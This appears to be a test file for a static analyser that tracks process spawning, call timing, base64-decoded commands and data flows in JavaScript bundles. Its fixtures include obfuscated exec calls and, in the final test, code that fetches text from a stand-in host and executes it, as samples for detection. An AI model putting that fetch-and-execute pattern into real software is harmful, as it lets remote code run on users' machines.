import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../test/behave.ts';

/** Only in a bundle callers are told apart. */
const BUNDLE = Array.from({ length: 1_000 }, (_, at) => `const f${at} = () => ${at};`).join(' ');

const spawned = (code: string): string[] =>
  behaviourOf({ 'index.js': `${BUNDLE} ${code}` })
    .effects.filter(({ kind }) => kind === 'spawns')
    .map(({ triggers, target, details }) => `${triggers.join()} ${target} ${details.get('arguments') ?? ''}`.trim());

describe('what one function starts for several others', () => {
  const run = `const { spawnSync } = require('child_process'); const run = words => spawnSync('tool', words);`;

  it('is told by the moments at which they run', () =>
    assert.deepEqual(spawned(`${run} const has = () => run(['--version']); has(); exports.find = key => run(['lookup', key]);`), [
      'import tool --version',
      'call tool lookup *',
    ]));

  it('through one more function, too', () =>
    assert.deepEqual(
      spawned(
        `${run} const quiet = words => run([words, '-q']); const a = () => quiet('one'); const b = () => quiet('two'); a(); exports.b = b;`,
      ),
      ['import tool one -q', 'call tool two -q'],
    ));

  it('is one deed in a small file, where a moment that is not followed would hide it', () =>
    assert.equal(
      behaviourOf({ 'index.js': `${run} const a = () => run(['one']); a(); exports.b = () => run(['two']);` }).effects.filter(
        ({ kind }) => kind === 'spawns',
      ).length,
      1,
    ));

  it('is one deed where all of them run at the same moments', () =>
    assert.deepEqual(spawned(`${run} const a = () => run(['one']); const b = () => run(['two']); a(); b();`).length, 1));

  it('is one deed where other files may call it, or where it is handed on', () => {
    assert.equal(spawned(`${run} const a = () => run(['one']); a(); exports.b = () => run(['two']); exports.run = run;`).length, 1);
    assert.equal(spawned(`${run} const a = () => run(['one']); a(); exports.b = () => run(['two']); [['x']].forEach(run);`).length, 1);
  });

  it('keeps what was bound, and what holds of one caller alone', () => {
    const bound = `const start = require('child_process').spawnSync.bind(null, 'tool'); const run = words => start(words);`;
    assert.deepEqual(spawned(`${bound} const a = () => run(['a']); a(); exports.b = () => run(['b']);`), ['import tool a', 'call tool b']);
    const { effects } = behaviourOf({
      'index.js': `${BUNDLE} const run = line => require('child_process').exec(line); const a = () => run('git --version'); a(); exports.b = () => run(Buffer.from('aW5lcnQ=', 'base64').toString());`,
    });
    const decoded = effects
      .filter(({ kind }) => kind === 'spawns')
      .map(({ triggers, details }) => [triggers.join(), details.has('decoded')]);
    assert.deepEqual(decoded, [
      ['import', false],
      ['call', true],
    ]);
  });

  it('is not done when a function is made that does it later', () =>
    assert.deepEqual(
      spawned(
        `const { spawnSync } = require('child_process'); const make = w => () => spawnSync('tool', w); exports.f = make(['a']); exports.g = () => make(['b'])();`,
      ),
      ['call tool a | b'],
    ));

  it('is split for so many callers only as can be told apart in time', () => {
    const lines = Array.from({ length: 60 }, (_, at) => `all.push(execSync('t${at}' + w)); execSync('u${at}' + w + all.join());`).join(' ');
    const callers = Array.from({ length: 16 }, (_, at) =>
      at % 2 === 0 ? `const c${at} = () => run('${at}'); c${at}();` : `exports.c${at} = () => run('${at}');`,
    ).join(' ');
    const { flows } = behaviourOf({
      'index.js': `${BUNDLE} const { execSync } = require('child_process'); const all = []; const run = w => { ${lines} }; ${callers}`,
    });
    assert.ok(flows.length < 200_000, `${flows.length} flows`);
  });

  it('keeps where its data goes', () => {
    const { flows } = behaviourOf({
      'index.js': `${BUNDLE} const { exec } = require('child_process'); const run = line => exec(line); const a = () => run('one'); a();
        exports.b = async () => run(await (await fetch('https://a.invalid')).text());`,
    });
    assert.deepEqual(
      flows.map(({ from, to }) => `${from.api} > ${to.triggers.join()} ${to.target}`),
      ['fetch > call '],
    );
  });
});
